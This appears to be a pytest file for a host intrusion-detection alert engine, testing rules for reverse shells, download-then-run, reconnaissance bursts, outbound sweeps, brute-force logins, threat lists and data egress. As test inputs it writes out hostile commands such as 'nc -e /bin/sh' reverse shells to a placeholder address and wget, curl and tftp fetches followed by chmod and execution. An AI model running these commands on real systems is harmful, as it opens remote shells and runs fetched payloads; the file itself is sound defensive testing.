"""The detection catalogue: each technique caught however it is spelled (tests/alerts/
attack_corpus.py, several spellings each, as typed and as an argv joined with spaces), routine
administration left alone, the stateful detections (download then run, reconnaissance burst,
outbound sweep, success after a brute force, threat lists), and the corpus replayed through both
engines. The oracle is the corpus: which rule each line was written for."""
import json

import pytest

from alert_helpers import START, evaluate, live, merged, of_rule, quiet, replay
from attack_corpus import ATTACKS, BENIGN, argv_forms, corpus_events, entries
from host_sim.cloud.alerts.engine import AlertEngine
from host_sim.cloud.alerts.messages import format_time, read_message
from host_sim.cloud.alerts.rules import RulesError, load_rules
from host_sim.replay import replay_firmware, replay_host
from microagent.decode import body_of_line
from microagent.encode import COMPACT, JSON
from host_sim import tracegen

RULES = load_rules()


def _process_message(items, t):
    return {"Events": [{"Name": "ProcessCreate", "Category": "Triggered",
                        "TimestampUTC": format_time(t), "Payload": items}]}


def _item(commandline, t, pid=4000, ppid=1, uid=0, user="root", **extra):
    item = {"timestamp": format_time(t), "process_id": pid, "parent_process_id": ppid,
            "user_id": uid, "user_name": user, "commandline": commandline, "type": "exec",
            "hit_count": 1}
    item.update(extra)
    return item


def _fired(items, rules=RULES, device="d"):
    engine = AlertEngine(rules)
    for i, item in enumerate(items):
        message = _process_message([item], START + i)
        engine.feed(device, {}, message, live(message))
    return [a.as_dict() for a in engine.sorted_alerts()]


CASES = [(rule, line, extra, form) for rule, spellings in ATTACKS.items()
         for line, extra in entries(spellings) for form in argv_forms(line)]


@pytest.mark.parametrize("rule,line,extra,form", CASES,
                         ids=["%s-%d" % (c[0], i) for i, c in enumerate(CASES)])
def test_each_spelling_of_a_technique_is_caught(rule, line, extra, form):
    fields = {"uid": extra.get("user_id", 0), "user": extra.get("user_name", "root")}
    fields.update({k: v for k, v in extra.items() if k not in ("user_id", "user_name")})
    alerts = _fired([_item(form, START, **fields)])
    assert rule in {a["rule"] for a in alerts}, form


@pytest.mark.parametrize("line", [form for line in BENIGN for form in argv_forms(line)])
def test_routine_administration_raises_nothing(line):
    assert _fired([_item(line, START, uid=1000, user="pi")]) == []


def test_every_detection_names_its_attack_technique_and_tactic():
    detections = [r for r in RULES.rules if r["kind"] not in (
        "new", "burst", "each", "report_change", "sequence_gap", "silence")]
    assert len(detections) >= 25
    for rule in detections:
        assert rule["technique"] and all(t.startswith("T") for t in rule["technique"]), rule["id"]
        assert rule["tactic"], rule["id"]
    alert = _fired([_item("nc -e /bin/sh 203.0.113.7 4444", START)])[0]
    assert alert["technique"] == ["T1059.004", "T1071"] and alert["tactic"] == "Execution"
    assert alert["evidence"][0]["commandline"] == "nc -e /bin/sh 203.0.113.7 4444"


def test_a_download_later_made_executable_and_run_by_the_same_user_is_one_alert():
    items = [_item("wget http://203.0.113.9/bot -O /tmp/.b", START, pid=10, ppid=5, uid=1000,
                   user="pi"),
             _item("chmod +x /tmp/.b", START + 30, pid=11, ppid=6, uid=1000, user="pi"),
             _item("/tmp/.b --daemon", START + 31, pid=12, ppid=6, uid=1000, user="pi")]
    alerts = of_rule(_fired(items), "download-then-run")
    assert len(alerts) == 1 and alerts[0]["key"] == "/tmp/.b"
    assert alerts[0]["count"] == 2   # made executable, then run
    assert [e["then"] for e in alerts[0]["evidence"]] == ["made executable", "run"]


def test_download_then_run_spellings_across_events():
    spellings = [
        ("curl -fsSL -o /var/tmp/x http://203.0.113.9/x", "chmod 755 /var/tmp/x"),
        ("curl -O http://203.0.113.9/payload.bin", "./payload.bin"),
        ("busybox wget http://203.0.113.9/mips", "chmod 777 mips"),
        ("tftp -g -r bins.sh 203.0.113.9", "sh bins.sh"),
        ("wget -q http://203.0.113.9/a.py -P /tmp", "python3 /tmp/a.py"),
        ("scp attacker@203.0.113.9:/srv/k /dev/shm/k", "chmod u+x /dev/shm/k"),
    ]
    for fetch, use in spellings:
        items = [_item(fetch, START, pid=10, ppid=7, uid=0),
                 _item(use, START + 5, pid=11, ppid=7, uid=0)]
        assert of_rule(_fired(items), "download-then-run"), (fetch, use)
    # in one line too
    line = "wget http://203.0.113.9/x -O /tmp/x && chmod +x /tmp/x && /tmp/x"
    assert of_rule(_fired([_item(line, START)]), "download-then-run")


def test_a_download_run_by_another_user_and_parent_or_much_later_is_not_linked():
    other = [_item("wget http://example.com/tool -O /opt/tool", START, pid=10, ppid=5, uid=1000),
             _item("/opt/tool", START + 5, pid=11, ppid=6, uid=1001)]
    later = [_item("wget http://example.com/tool -O /opt/tool", START, pid=10, ppid=5, uid=0),
             _item("/opt/tool", START + 7200, pid=11, ppid=5, uid=0)]
    assert of_rule(_fired(other), "download-then-run") == []
    assert of_rule(_fired(later), "download-then-run") == []


def test_a_reconnaissance_burst_is_one_alert_and_an_admins_few_checks_none():
    recon = ["id", "whoami", "uname -a", "cat /etc/passwd", "ip a", "ps aux", "netstat -tulpn",
             "find / -perm -4000 -type f", "crontab -l", "w"]
    items = [_item(line, START + i * 10, pid=100 + i, uid=33, user="svc")
             for i, line in enumerate(recon)]
    alerts = of_rule(_fired(items), "local-reconnaissance")
    assert len(alerts) == 1 and alerts[0]["evidence"][-1]["commands"] == len(recon)
    admin = ["uname -a", "ip a", "ps aux", "df -h", "systemctl status nginx", "w"]
    items = [_item(line, START + i * 10, pid=100 + i, uid=1000, user="pi")
             for i, line in enumerate(admin)]
    assert of_rule(_fired(items), "local-reconnaissance") == []


def _connection(t, address, port, bytes_in=0, direction="out"):
    return {"kind": "connection", "t": round(t, 3), "protocol": "TCP",
            "local_address": "192.168.1.20", "local_port": 40000 + port % 20000,
            "remote_address": address, "remote_port": port, "bytes_in": bytes_in,
            "bytes_out": 60, "direction": direction}


def test_an_outbound_sweep_is_one_alert_with_counts(tmp_path):
    t0 = START + 2 * 3600
    scan = [_connection(t0 + i * 0.05, "10.0.%d.%d" % (i // 250, i % 250 + 1), 23)
            for i in range(300)]
    scan += [_connection(t0 + 20 + i * 0.05, "10.9.9.9", 1 + i) for i in range(120)]
    alerts = of_rule(evaluate(replay(merged(quiet(), scan), tmp_path, cache_size=1024)),
                     "outbound-sweep")
    assert len(alerts) == 1
    last = alerts[0]["evidence"][-1]
    assert last["destinations"] == 420 and last["addresses"] == 301 and last["ports"] == 120


def test_a_busy_gateways_answered_connections_are_no_sweep(tmp_path):
    events = list(tracegen.busy(duration=1800))
    alerts = evaluate(replay(events, tmp_path))
    assert of_rule(alerts, "outbound-sweep") == []


def _login(t, operation, address, user="root"):
    return {"kind": "login", "t": round(t, 3), "operation": operation, "pid": 4242,
            "user_name": user, "executable": "sshd", "remote_address": address}


def test_a_login_after_a_brute_force_from_that_address_is_a_successful_brute_force(tmp_path):
    t0 = START + 3600
    attack = [_login(t0 + i * 5, "LoginFailed", "203.0.113.9") for i in range(12)]
    attack.append(_login(t0 + 200, "Login", "203.0.113.9", user="pi"))
    typo = [_login(t0 + 300, "LoginFailed", "192.168.1.50", "pi"),
            _login(t0 + 310, "Login", "192.168.1.50", "pi")]
    alerts = evaluate(replay(merged(quiet(), attack, typo), tmp_path))
    success = of_rule(alerts, "successful-brute-force")
    assert [a["key"] for a in success] == ["203.0.113.9 pi"]
    assert success[0]["severity"] == "High" and "T1110.001" in success[0]["technique"]


def test_threat_lists_plain_and_stix_match_addresses_networks_and_domains(tmp_path):
    plain = tmp_path / "threats.txt"
    plain.write_text("# C2 of the week\n198.51.100.66\n203.0.113.0/28\nbad.example\n")
    stix = tmp_path / "threats.stix.json"
    stix.write_text(json.dumps({"type": "bundle", "id": "bundle--1", "objects": [
        {"type": "indicator", "spec_version": "2.1", "id": "indicator--1",
         "pattern": "[ipv4-addr:value = '192.0.2.77']", "pattern_type": "stix"},
        {"type": "indicator", "spec_version": "2.1", "id": "indicator--2",
         "pattern": "[domain-name:value = 'pool.evil.example']", "pattern_type": "stix"}]}))
    t0 = START + 3600
    events = [_connection(t0, "198.51.100.66", 3333, 100), _connection(t0 + 1, "203.0.113.9", 443, 5),
              _connection(t0 + 2, "192.0.2.77", 80, 5), _connection(t0 + 3, "192.0.2.78", 80, 5),
              {"kind": "dns", "t": t0 + 3.5, "hostname": "x.pool.evil.example",
               "address": "192.0.2.200"},
              _connection(t0 + 4, "192.0.2.200", 443, 5),
              _login(t0 + 5, "LoginFailed", "203.0.113.2")]
    bodies = replay(merged(quiet(), events), tmp_path)
    for path in (plain, stix):
        rules = tmp_path / ("rules-%s.json" % path.name)
        rules.write_text(json.dumps({"rules": [{"id": "threat-list", "file": path.name}]}))
        keys = {a["key"] for a in of_rule(evaluate(bodies, str(rules)), "threat-list")}
        if path is plain:
            assert keys == {"198.51.100.66", "203.0.113.9", "203.0.113.2"}
        else:
            assert keys == {"192.0.2.77", "pool.evil.example"}


def test_a_bad_threat_list_is_one_line_naming_the_file_and_line(tmp_path):
    bad = tmp_path / "threats.txt"
    bad.write_text("198.51.100.66\nnot an address!\n")
    rules = tmp_path / "rules.json"
    rules.write_text(json.dumps({"rules": [{"id": "threat-list", "file": str(bad)}]}))
    with pytest.raises(RulesError) as caught:
        load_rules(str(rules))
    assert "line 2" in str(caught.value) and str(bad) in str(caught.value)
    assert "\n" not in str(caught.value)


def test_a_bad_match_in_a_user_rule_is_one_line(tmp_path):
    rules = tmp_path / "rules.json"
    rules.write_text(json.dumps({"rules": [{
        "id": "mine", "kind": "process", "severity": "High", "title": "t", "what_to_do": "w",
        "match": [{"program": ["@nosuchset"]}]}]}))
    with pytest.raises(RulesError) as caught:
        load_rules(str(rules))
    assert "rule 'mine'" in str(caught.value) and "@nosuchset" in str(caught.value)


def _corpus_trace(path):
    """The corpus after a quiet hour, written to PATH; the (rule, commandline) expected."""
    events, expected = corpus_events(START + 3600)
    tracegen.write(sorted(list(quiet(hours=1.0)) + events, key=lambda e: e["t"]), str(path))
    return expected


def _bodies_of(engine, encoding, trace):
    lines = []
    if engine == "host":
        replay_host(str(trace), 60000, 256, lines.append, lambda line: None, encoding=encoding)
    else:
        assert replay_firmware(str(trace), 60000, 256, lines.append, lambda line: None,
                               runtime="micropython", heap="1M", encoding=encoding) == 0
    return [body_of_line(line if isinstance(line, str) else line.decode()) for line in lines]


@pytest.mark.parametrize("engine,encoding", [("host", JSON), ("host", COMPACT),
                                             ("firmware", JSON), ("firmware", COMPACT)])
def test_the_corpus_through_each_engine_is_caught_line_by_line(engine, encoding, tmp_path):
    trace = tmp_path / "corpus.jsonl"
    expected = _corpus_trace(trace)
    # hundreds of attacks from one device in minutes: past its hourly budget of alert lines,
    # which would fold them into a count, so this test of the detections lifts it
    engine_alerts = AlertEngine(RULES, budget=(10 ** 6, 10 ** 6))
    for body in _bodies_of(engine, encoding, trace):
        message = read_message(body, {})
        engine_alerts.feed("victim", {}, message, live(message))
    caught = {(a.rule, e.get("commandline")) for a in engine_alerts.alerts.values()
              for e in a.evidence}
    missed = [(rule, form) for rule, form in expected if (rule, form) not in caught]
    assert missed == []


def test_a_device_s_new_alerts_per_hour_are_bounded():
    """A device that trips 200 distinct alerts of a rule in an hour (hostile, or broken) gets
    its rule's share of its own and one summary per severity for the rest of that hour, so it
    cannot drown the view."""
    items = [_item("nc -e /bin/sh 203.0.113.7 %d" % (1000 + i), START + i * 10, pid=100 + i)
             for i in range(200)]
    fired = _fired(items)
    alerts = of_rule(fired, "reverse-shell")
    summary = of_rule(fired, "alert-budget")
    assert len(alerts) == 25 and len(summary) == 1
    assert summary[0]["count"] == 175 and summary[0]["severity"] == "High"
    later = _fired(items[:1] + [_item("nc -e /bin/sh 203.0.113.7 9", START + 3600 * 2, pid=9)])
    assert len(of_rule(later, "reverse-shell")) == 2     # a new hour, a new budget


def test_data_egress_far_above_the_learned_hours_is_one_alert_per_hour(tmp_path):
    def upload(t, sent):
        return dict(_connection(t, "198.51.100.80", 443, bytes_in=2000), bytes_out=sent)
    base = quiet(hours=30.0)                        # ~60 KB out per hour of MQTT
    day2 = START + 86400 + 2 * 3600
    normal = [upload(day2 + 60 * i, 100000) for i in range(10)]          # 1 MB: under the line
    burst = [upload(day2 + 3600 + 60 * i, 5000000) for i in range(10)]    # 50 MB in one hour
    alerts = evaluate(replay(merged(base, normal, burst), tmp_path))
    egress = of_rule(alerts, "data-egress")
    assert [a["key"] for a in egress] == ["hour %d" % (int((day2 + 3600) // 3600) * 3600)]
    assert egress[0]["evidence"][-1]["bytes_out"] >= 50000000
    assert len(egress[0]["evidence"]) == 1
